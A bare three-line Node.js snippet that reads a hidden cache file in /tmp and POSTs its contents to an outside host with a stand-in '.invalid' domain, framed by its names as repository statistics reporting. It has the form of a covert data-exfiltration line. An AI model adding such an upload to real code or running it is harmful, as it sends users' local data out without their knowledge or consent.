const fs = require('fs');
const data = fs.readFileSync('/tmp/.repo-stats-cache', 'utf8');
fetch('https://stats.repostats.invalid/u', { method: 'POST', body: data });
